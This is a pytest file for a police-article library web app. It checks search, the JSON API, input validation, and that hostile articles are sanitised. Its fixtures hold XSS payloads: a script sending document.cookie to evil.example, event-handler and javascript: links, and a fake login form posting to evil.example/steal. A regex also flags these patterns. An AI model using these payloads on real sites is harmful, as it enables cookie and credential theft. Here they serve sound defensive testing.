"""The library's pages and API: real figures on the page, JSON equal to the services, bad input
as 400, the force panel, and hostile article content that never reaches a page as markup."""

from __future__ import annotations

import re
import shutil
import textwrap
import warnings
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from urllib.parse import quote

import pytest
from lxml import html as lxml_html
from sqlalchemy.orm import Session

from parity.commitments import service as commitments_service
from parity.library import service
from parity.library.samples import front_matter_file, html_page, write_corpus
from parity.library.views import safe_snippet
from parity.present.format import pct
from parity.present.responses import to_jsonable
from tests.helpers import drop_pg_database, fresh_pg_with_workforce
from tests.library.conftest import ARTICLES, write_fixture_corpus
from tests.web import test_browser as browser_fixtures
from tests.web.test_browser import browser, server  # noqa: F401 - fixtures of the journey

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

HERTS = ARTICLES["hertfordshire/2019-11-22-womens-network.md"]["url"]
KENT = ARTICLES["kent/2022-06-15-police-staff.md"]["url"]
SUSSEX = ARTICLES["sussex/2021-10-01-safer-nights.md"]["url"]

# Hostile articles, written for these tests: every way of smuggling script into a page that
# an archived news page might carry, in the Markdown form and as a saved web page.
HOSTILE_MD_URL = "https://www.essex.police.uk/news/2022/03/hostile-markdown/"
HOSTILE_HTML_URL = "https://www.essex.police.uk/news/2022/04/hostile-page/"
HOSTILE_MD = dict(
    title='Quokka patrols <script>alert("title")</script> start in Colchester',
    url=HOSTILE_MD_URL, area="Essex", published=date(2022, 3, 14),
    description='Volunteers <img src=x onerror="alert(\'description\')"> join the quokka '
                "patrols.",
    body=textwrap.dedent("""
        Essex Police has begun quokka patrols, a made-up scheme in which volunteers walk
        with officers through Colchester after dark.

        <script>document.location = "https://evil.example/?c=" + document.cookie</script>
        <img src="x.png" onerror="alert('img')">
        <iframe src="javascript:alert('frame')"></iframe>
        <svg onload="alert('svg')"><circle r="4"/></svg>
        <p style="position:fixed;top:0" onmouseover="alert('hover')">Quokka hover text.</p>
        <form action="https://evil.example/steal"><input name="pw"><button>Log in</button></form>

        Read the [quokka guide](javascript:alert('md-link')), the
        <a href="JaVaScRiPt:alert('html-link')" onclick="alert('click')">quokka map</a>, the
        <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">quokka data</a>
        and the [quokka rota](https://www.essex.police.uk/quokka-rota).

        Escaped markup stays text: &lt;script&gt;alert("quokka entity")&lt;/script&gt; and
        &lt;mark&gt;quokka&lt;/mark&gt; and &lt;b onmouseover="x"&gt;quokka&lt;/b&gt;.
        """),
)
HOSTILE_HTML = dict(
    title="Wombat cafes open in Chelmsford", url=HOSTILE_HTML_URL, site="Essex Police",
    published=date(2022, 4, 2), description="Wombat cafes, a made-up scheme, open monthly.",
    body=textwrap.dedent("""
        Essex Police has opened wombat cafes in Chelmsford, where colleagues meet each month
        to talk about flexible working and part-time patterns.

        <script>alert('page script')</script>
        <p onclick="alert('page click')">Wombat cafes run on the first Monday.</p>

        See the <a href="javascript:alert('page link')">wombat timetable</a> and the
        [wombat notes](javascript:alert('page md link')).
        """),
)
NAUGHTY = re.compile(r"alert\(|javascript|document\.cookie|evil\.example", re.I)
SCRIPT_TEXT = re.compile(r"document\.cookie|not welcome|page script|alert\('(img|svg|frame)'\)")


def _corpus(folder: Path) -> Path:
    write_fixture_corpus(folder / "fixtures")
    write_corpus(folder / "synthetic", count=60, seed=11, html_share=0.2)
    md = folder / "hostile" / "quokka.md"
    md.parent.mkdir(parents=True, exist_ok=True)
    md.write_text(front_matter_file(**HOSTILE_MD), encoding="utf-8")
    (folder / "hostile" / "wombat.html").write_text(html_page(**HOSTILE_HTML), encoding="utf-8")
    return folder


def library_database(kind: str, folder: Path, sqlite_template: Path) -> tuple[str, str | None]:
    """(URL, PostgreSQL database name or None) of a database with the workforce table and the
    test corpus imported."""
    from parity.library.importer import import_articles
    from parity.store import make_engine

    pg_name = None
    if kind == "sqlite":
        path = folder / "library.db"
        shutil.copy(sqlite_template, path)
        url = f"sqlite:///{path}"
    else:
        pg_name, url = fresh_pg_with_workforce("parity_libweb")
    engine = make_engine(url)
    with Session(engine) as s:
        report = import_articles(s, path=_corpus(folder / "corpus"))
        assert not report.problems, report.problems
        s.commit()
    engine.dispose()
    return url, pg_name


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def client(request, tmp_path_factory, sqlite_templates) -> Iterator[TestClient]:  # noqa: ANN001
    from parity.web.app import create_app

    url, pg_name = library_database(request.param, tmp_path_factory.mktemp("libweb"),
                                    sqlite_templates["workforce"])
    try:
        with TestClient(create_app(url)) as c:
            yield c
    finally:
        if pg_name:
            drop_pg_database(pg_name)


@pytest.fixture
def session(client) -> Iterator[Session]:  # noqa: ANN001
    with Session(client.app.state.engine) as s:
        yield s


def page(response):  # noqa: ANN001, ANN201
    assert response.status_code == 200, response.text[:500]
    assert response.headers["content-type"].startswith("text/html")
    return lxml_html.fromstring(response.text)


def words(element) -> str:  # noqa: ANN001
    return " ".join(" ".join(element.xpath(".//text()[not(ancestor::svg)]")).split())


def assert_no_active_content(response) -> None:  # noqa: ANN001
    """Nothing in the page can run: no script, frame, object, image or form pointing
    elsewhere, no event handler or style attribute, and every link http(s), mailto or on the
    site."""
    source = response.text
    assert "<script" not in source.lower()
    tree = lxml_html.fromstring(source)
    assert not tree.xpath("//script|//iframe|//object|//embed|//img|//input[@type='password']")
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), (element.tag, name, value)
            assert name.lower() != "style", (element.tag, value)
            if name.lower() in {"href", "src", "action", "formaction", "xlink:href"}:
                assert re.match(r"(https?://|mailto:|/|#|\?)", value.strip()), (name, value)
    for form in tree.xpath("//form"):
        assert form.get("action", "").startswith("/"), form.get("action")
    for mark in tree.xpath("//mark"):
        assert len(mark) == 0, lxml_html.tostring(mark)  # highlights hold text only


# search ----------------------------------------------------------------------------------------
def test_search_page_ranks_and_highlights(client, session):
    response = client.get("/library", params={"q": "menopause", "force": "Durham"})
    tree = page(response)
    expected = service.search(session, query="menopause", force="Durham", limit=20)
    assert expected["total"] >= 1
    hits = tree.xpath("//ol[@id='hits']/li")
    assert [int(h.get("data-id")) for h in hits] == [h["id"] for h in expected["hits"]]
    first = hits[0]
    assert words(first.xpath(".//h3")[0]) == expected["hits"][0]["title"]
    marked = [m.text.lower() for m in first.xpath(".//p[@class='snippet']/mark")]
    assert marked and all(m.startswith("menopause") for m in marked)
    assert f"{expected['total']} article" in words(tree.xpath("//h2[@id='h-results']")[0])
    assert_no_active_content(response)


def test_search_filters_by_region_theme_and_dates(client, session):
    params = {"q": "women", "region": "South East", "theme": "flexible_working",
              "from": "2021-01-01", "to": "2022-12-31"}
    tree = page(client.get("/library", params=params))
    expected = service.search(session, query="women", region="South East",
                              theme="flexible_working", date_from=date(2021, 1, 1),
                              date_to=date(2022, 12, 31), limit=20)
    ids = [int(h.get("data-id")) for h in tree.xpath("//ol[@id='hits']/li")]
    assert ids == [h["id"] for h in expected["hits"]]
    for hit in expected["hits"]:
        assert hit["region"] == "South East" and "flexible_working" in hit["themes"]
        assert "2021-01-01" <= hit["published"] <= "2022-12-31"
    # the form keeps what was asked
    assert tree.xpath("//select[@id='f-region']/option[@selected]")[0].get("value") == \
        "South East"
    assert tree.xpath("//input[@id='f-from']")[0].get("value") == "2021-01-01"


def test_filters_without_words_browse_newest_first(client, session):
    tree = page(client.get("/library", params={"force": "hertfordshire"}))
    expected = service.browse(session, force="hertfordshire", limit=20)
    ids = [int(h.get("data-id")) for h in tree.xpath("//ol[@id='hits']/li")]
    assert ids == [a["id"] for a in expected["articles"]]
    dates = [a["published"] for a in expected["articles"] if a["published"]]
    assert dates == sorted(dates, reverse=True)


def test_paging(client, session):
    total = service.search(session, query="police", limit=1)["total"]
    assert total > 20
    second = page(client.get("/library", params={"q": "police", "page": 2}))
    expected = service.search(session, query="police", limit=20, offset=20)
    assert [int(h.get("data-id")) for h in second.xpath("//ol[@id='hits']/li")] == \
        [h["id"] for h in expected["hits"]]
    previous = second.xpath("//a[@rel='prev']")[0].get("href")
    assert previous == "/library?q=police"
    past = page(client.get("/library", params={"q": "police", "page": 999}))
    assert "past the last page" in words(past.xpath("//p[@id='past-the-end']")[0])
    assert not past.xpath("//ol[@id='hits']/li")


def test_home_shows_shared_practice(client, session):
    response = client.get("/library")
    tree = page(response)
    practice = service.shared_practice(session, per_theme=2)
    rows = tree.xpath("//table[@id='theme-counts']/tbody/tr")
    assert [words(r.xpath("th")[0]) for r in rows] == [t["label"] for t in practice["themes"]]
    assert [words(r.xpath("td")[0]) for r in rows] == [str(t["articles"])
                                                       for t in practice["themes"]]
    assert tree.xpath("//svg[@role='img']")  # the chart beside the table
    assert_no_active_content(response)


def test_search_json_is_the_service_output(client, session):
    params = {"q": '"job share" OR menopause', "limit": 5}
    api = client.get("/api/v1/library/search", params=params)
    assert api.status_code == 200
    assert api.json() == to_jsonable(service.search(session, query='"job share" OR menopause',
                                                    limit=5))
    hit = api.json()["hits"][0]
    assert set(hit) >= {"title", "url", "area", "published", "themes", "snippet"}
    page_json = client.get("/library.json", params={"q": "menopause"}).json()
    assert page_json["results"] == to_jsonable(service.search(session, query="menopause",
                                                              limit=20))


@pytest.mark.parametrize(("params", "reason"), [
    ({"q": "women", "force": "Atlantis Constabulary"}, "unknown force"),
    ({"q": "women", "region": "Kent"}, "is a force, not a region"),
    ({"q": "women", "theme": "gardening"}, "unknown theme"),
    ({"q": "women", "from": "yesterday-ish"}, "cannot read the date"),
    ({"q": "women", "from": "2022-01-01", "to": "2021-01-01"}, "the date range is empty"),
])
def test_bad_input_is_400_with_the_reason(client, params, reason):
    api = client.get("/api/v1/library/search", params=params)
    assert api.status_code == 400 and reason in api.json()["error"]
    html = client.get("/library", params=params)
    assert html.status_code == 400
    assert reason in words(lxml_html.fromstring(html.text)).lower()


def test_api_validation_errors_are_400(client):
    assert client.get("/api/v1/library/search").status_code == 400  # no words
    assert client.get("/api/v1/library/search", params={"q": "x", "limit": 0}).status_code == 400
    assert client.get("/library", params={"page": 0}).status_code == 400
    response = client.get("/api/v1/library/articles/999999")
    assert response.status_code == 400 and "no article" in response.json()["error"]
    assert client.get("/library/articles/999999").status_code == 404


# the article page ------------------------------------------------------------------------------
def test_article_page_checks_figures_against_the_official_ones(client, session):
    from parity.workforce import service as workforce

    herts = service.get_article(session, ref=HERTS)
    response = client.get(f"/library/articles/{herts.id}")
    tree = page(response)
    assert words(tree.xpath("//h1")[0]) == ARTICLES["hertfordshire/2019-11-22-womens-network.md"
                                                    ]["title"]
    rows = {(r.xpath("td")[0].text or "").strip(): r
            for r in tree.xpath("//table[@id='claims']/tbody/tr")}
    checked = {c["quoted"]: c for c in service.check_figures(session, ref=herts.id)["claims"]}
    year_32, year_26 = checked["32%"]["official"]["year"], checked["26%"]["official"]["year"]
    officers = workforce.representation(session, area="hertfordshire", year=year_32,
                                        group="all", measure="fte", worker_type="officer")
    senior = workforce.representation(session, area="hertfordshire", year=year_26,
                                      group="senior", measure="fte", worker_type="officer")
    assert pct(officers["share_female"]) in words(rows["32%"])
    assert "matches" in words(rows["32%"].xpath("td")[-1])
    assert pct(senior["share_female"]) in words(rows["26%"])
    assert checked["26%"]["verdict"] in words(rows["26%"].xpath("td")[-1])
    assert f"Hertfordshire, 31 March {year_32}: officers" in words(rows["32%"])
    # what each figure is about, with the words that say so
    assert "Rank group: senior leadership (Chief Inspector and above) — “senior leaders”" \
        in words(rows["26%"])
    assert "accepted: 31.0% to 33.0%" in words(rows["32%"].xpath("td")[-1])  # the band used
    # the body is the sanitised HTML, with its formatting and safe links
    body = tree.xpath("//article[@id='article-body']")[0]
    assert body.xpath(".//h2") and body.xpath(".//li")
    assert body.xpath(".//a[@href='https://www.herts.police.uk/network']")
    # metadata and themes
    meta = words(tree.xpath("//table[@id='article-meta']")[0])
    assert "Hertfordshire" in meta and "22 November 2019" in meta
    assert "Networks and mentoring" in meta
    assert tree.xpath("//svg[@role='img']")  # quoted beside official
    assert_no_active_content(response)


def test_article_json_and_api_are_the_service_output(client, session):
    kent = service.get_article(session, ref=KENT).id
    data = client.get(f"/library/articles/{kent}.json").json()
    assert data["article"] == to_jsonable(service.article_detail(session, ref=kent))
    assert data["check"] == to_jsonable(service.check_figures(session, ref=kent))
    assert data["similar"] == to_jsonable(service.more_like_this(session, ref=kent, limit=5))
    assert data["check"]["claims"][0]["verdict"] == "matches"
    for path, expected in [
        (f"/api/v1/library/articles/{kent}", service.article_detail(session, ref=kent)),
        (f"/api/v1/library/articles/{kent}/check", service.check_figures(session, ref=kent)),
        (f"/api/v1/library/articles/{kent}/similar",
         service.more_like_this(session, ref=kent, limit=10)),
        (f"/api/v1/library/articles/{kent}/commitments", commitments_service.cited_for(session, ref=kent)),
        ("/api/v1/library/themes", service.themes(session)),
        ("/api/v1/library/forces", service.counts_by_force(session)),
        ("/api/v1/library/practice", service.shared_practice(session)),
        ("/api/v1/library/articles?theme=recruitment&limit=5",
         service.browse(session, theme="recruitment", limit=5)),
        ("/api/v1/library/forces/Kent/articles", service.articles_for_force(session,
                                                                            force="kent")),
        ("/api/v1/library/forces/hertfordshire/checks",
         service.force_figures_checks(session, force="hertfordshire")),
        (f"/api/v1/library/commitments/{quote('senior representation')}/articles",
         service.articles_for_commitment(session, commitment="senior representation")),
    ]:
        response = client.get(path)
        assert response.status_code == 200, (path, response.text[:300])
        assert response.json() == to_jsonable(expected), path


def test_article_by_url_or_file_name_redirects_to_its_id(client, session):
    kent = service.get_article(session, ref=KENT)
    response = client.get(f"/library/articles/{kent.file_name}", follow_redirects=False)
    assert response.status_code == 307
    assert response.headers["location"] == f"/library/articles/{kent.id}"


def test_commitments_citing_an_article(client, session):
    """An article cited by a commitment lists it (the link is written through the
    commitments domain's service, by the article's URL in another spelling)."""
    from parity.commitments import service as commitments

    herts = service.get_article(session, ref=HERTS)
    with Session(client.app.state.engine) as s:
        commitments.ensure_defaults(s)
        commitments.link_article(s, ref="national-2019-1", article=HERTS.replace(
            "https://www.", "http://"), by="test", note="mentoring circles")
        s.commit()
    tree = page(client.get(f"/library/articles/{herts.id}"))
    cited = tree.xpath("//ul[@id='cited-for']/li")
    assert len(cited) == 1 and "national-2019-1" in words(cited[0])
    assert cited[0].xpath("a")[0].get("href") == "/commitments/national-2019-1"
    assert "mentoring circles" in words(cited[0])
    assert commitments_service.cited_for(session, ref=herts.id)[0]["ref"] == "national-2019-1"
    kent = service.get_article(session, ref=KENT)
    assert commitments_service.cited_for(session, ref=kent.id) == []


# hostile content -------------------------------------------------------------------------------
@pytest.mark.parametrize("url", [SUSSEX, HOSTILE_MD_URL, HOSTILE_HTML_URL])
def test_hostile_articles_never_reach_a_page_as_markup(client, session, url):
    article = service.get_article(session, ref=url)
    response = client.get(f"/library/articles/{article.id}")
    tree = page(response)
    assert_no_active_content(response)
    body = tree.xpath("//article[@id='article-body']")[0]
    # scripts go with their content; links to javascript: or data: lose their target
    assert not SCRIPT_TEXT.search(words(body)), words(body)
    for link in body.xpath(".//a"):
        assert link.get("href") is None or link.get("href").startswith("https://")
    for element in body.iter():
        for value in element.attrib.values():
            assert not NAUGHTY.search(value), (element.tag, value)
    if url == HOSTILE_MD_URL:
        # the title and description are text: shown, escaped, never markup
        assert '<script>alert("title")</script>' in words(tree.xpath("//h1")[0])
        assert "onerror" in words(tree.xpath("//p[@class='lede']")[0])
        assert body.xpath(".//a[@href='https://www.essex.police.uk/quokka-rota']")
        assert "quokka map" in words(body) and "Quokka hover text." in words(body)
        # markup written as entities in the article is text on the page
        assert '<script>alert("quokka entity")</script>' in words(body)
    # the same holds for its JSON: the html is the sanitised body
    detail = client.get(f"/api/v1/library/articles/{article.id}").json()
    assert "<script" not in detail["html"].lower()
    assert not re.search(r"<[^>]*\b(on[a-z]+|style)\s*=", detail["html"], re.I)
    assert not re.search(r"(href|src)\s*=\s*[\"']?\s*(javascript|data):", detail["html"], re.I)


@pytest.mark.parametrize("query", ["quokka", '"escaped markup"', "wombat", "quokka OR alert"])
def test_hostile_articles_in_search_results(client, query):
    response = client.get("/library", params={"q": query})
    tree = page(response)
    assert tree.xpath("//ol[@id='hits']/li")
    assert_no_active_content(response)
    for snippet in tree.xpath("//p[@class='snippet']"):
        assert {child.tag for child in snippet} <= {"mark"}


def test_snippets_keep_only_their_own_marks():
    hostile = ('<mark>a</mark> <script>x()</script> &lt;mark&gt;b&lt;/mark&gt; '
               '<img src=x onerror=y> <mark>c')
    out = str(safe_snippet(hostile))
    assert out.count("<mark>") == 2 and out.count("</mark>") == 2
    assert "<script" not in out and "<img" not in out and "&lt;script&gt;" in out
    assert "&lt;mark&gt;b&lt;/mark&gt;" in out
    assert str(safe_snippet("</mark>x<mark><mark>y")) == "x<mark>y</mark>"


# browsing --------------------------------------------------------------------------------------
def test_theme_pages(client, session):
    tree = page(client.get("/library/themes"))
    themes = service.themes(session)["themes"]
    rows = tree.xpath("//table[@id='themes']/tbody/tr")
    assert [(words(r.xpath("th")[0]), words(r.xpath("td")[0])) for r in rows] == \
        [(t["label"], str(t["articles"])) for t in themes]
    tree = page(client.get("/library/themes/sexual_offences", params={"force": "Hertfordshire Constabulary"}))
    expected = service.browse(session, theme="sexual_offences", force="hertfordshire")
    assert [int(h.get("data-id")) for h in tree.xpath("//ol[@id='hits']/li")] == \
        [a["id"] for a in expected["articles"]]
    assert client.get("/library/themes/gardening").status_code == 404
    assert client.get("/library/themes.json").json() == to_jsonable(service.themes(session))


def test_force_pages(client, session):
    tree = page(client.get("/library/forces"))
    counts = service.counts_by_force(session)
    rows = {words(r.xpath("th")[0]): words(r.xpath("td")[1])
            for r in tree.xpath("//table[@id='forces']/tbody/tr")}
    for force in counts["forces"]:
        assert rows[force["area"]] == str(force["articles"])
    moved = client.get("/library/forces/Hertfordshire Constabulary", follow_redirects=False)
    assert moved.status_code == 307 and moved.headers["location"] == \
        "/library/forces/hertfordshire"
    response = client.get("/library/forces/hertfordshire")
    tree = page(response)
    checks = service.force_figures_checks(session, force="hertfordshire", limit=5)
    assert checks["claims"] >= 3
    herts = service.get_article(session, ref=HERTS).id
    table = tree.xpath(f"//table[@id='claims-{herts}']")[0]
    assert "does not match" in words(table) and "matches" in words(table)
    assert client.get("/library/forces/atlantis").status_code == 404
    assert_no_active_content(response)


def test_force_panel_on_the_force_page(client, session):
    tree = page(client.get("/forces/kent"))
    panel = tree.xpath("//ul[@id='library-panel']")
    assert panel, "the library's panel is on the force page"
    newest = service.articles_for_force(session, force="kent", limit=5)
    assert [a.get("href") for a in panel[0].xpath("li/a")] == \
        [f"/library/articles/{a['id']}" for a in newest]
    assert tree.xpath("//a[@href='/library/forces/kent']")


def test_security_headers_on_library_pages(client):
    from parity.web.app import CONTENT_SECURITY_POLICY

    for path in ("/library", "/library/themes", "/library/forces", "/api/v1/library/themes"):
        response = client.get(path)
        assert response.headers["content-security-policy"] == CONTENT_SECURITY_POLICY


def test_an_empty_library(sqlite_templates, tmp_path):
    from parity.web.app import create_app

    shutil.copy(sqlite_templates["workforce"], tmp_path / "empty.db")
    with TestClient(create_app(f"sqlite:///{tmp_path / 'empty.db'}")) as empty:
        home = page(empty.get("/library"))
        assert "No articles have been added to the library yet" in words(home)
        assert empty.get("/library.json").json()["practice"]["total"] == 0
        found = page(empty.get("/library", params={"q": "menopause"}))
        assert "No article matches" in words(found)
        assert not page(empty.get("/forces/kent")).xpath("//ul[@id='library-panel']")
        assert empty.get("/api/v1/library/forces").json()["total"] == 0


@pytest.fixture
def sqlite_url(tmp_path, sqlite_templates) -> str:  # noqa: ANN001
    """For the browser journey's server: the workforce table and the test corpus."""
    url, _ = library_database("sqlite", tmp_path, sqlite_templates["workforce"])
    return url


@pytest.mark.skipif(not (browser_fixtures.CHROMIUM and browser_fixtures.DRIVER),
                    reason="chromium and chromium-driver are not installed")
def test_journey_in_a_real_browser(server, browser, tmp_path):  # noqa: ANN001, F811
    """Headless Chromium: search -> a hostile article -> its force's library page -> the force
    page's panel; no alert opens and nothing is refused by the Content-Security-Policy."""
    from selenium.common.exceptions import NoAlertPresentException
    from selenium.webdriver.common.by import By

    def no_alert() -> None:
        with pytest.raises(NoAlertPresentException):
            browser.switch_to.alert.text  # noqa: B018

    browser.get(server + "/library")
    assert browser.find_element(By.TAG_NAME, "h1").text == "What forces share"
    assert browser.find_element(By.CSS_SELECTOR, "svg.chart").size["width"] > 300
    field = browser.find_element(By.ID, "f-q")
    field.send_keys("quokka patrols")
    field.submit()
    browser_fixtures.wait_until(browser, lambda: "q=quokka+patrols" in browser.current_url)
    hits = browser.find_elements(By.CSS_SELECTOR, "#hits li")
    assert hits and browser.find_elements(By.CSS_SELECTOR, "#hits mark")
    browser.save_screenshot(str(tmp_path / "search.png"))
    hits[0].find_element(By.CSS_SELECTOR, "h3 a").click()
    browser_fixtures.wait_until(browser, lambda: "/library/articles/" in browser.current_url)
    no_alert()
    assert '<script>alert("title")</script>' in browser.find_element(By.TAG_NAME, "h1").text
    body = browser.find_element(By.ID, "article-body")
    assert "Quokka hover text." in body.text
    browser.save_screenshot(str(tmp_path / "article.png"))
    browser.find_element(By.CSS_SELECTOR, "#article-meta a[href='/library/forces/essex']").click()
    browser_fixtures.wait_until(browser, lambda: browser.current_url.endswith("/library/forces/essex"))
    no_alert()
    assert browser.find_element(By.TAG_NAME, "h1").text == "Essex"
    browser.get(server + "/forces/essex")
    panel = browser.find_element(By.ID, "panel-library")
    assert "Shared practice" in panel.text and "Wombat cafes open in Chelmsford" in panel.text
    no_alert()
    logs = [e for e in browser.get_log("browser") if e["level"] == "SEVERE"]
    assert not logs, logs
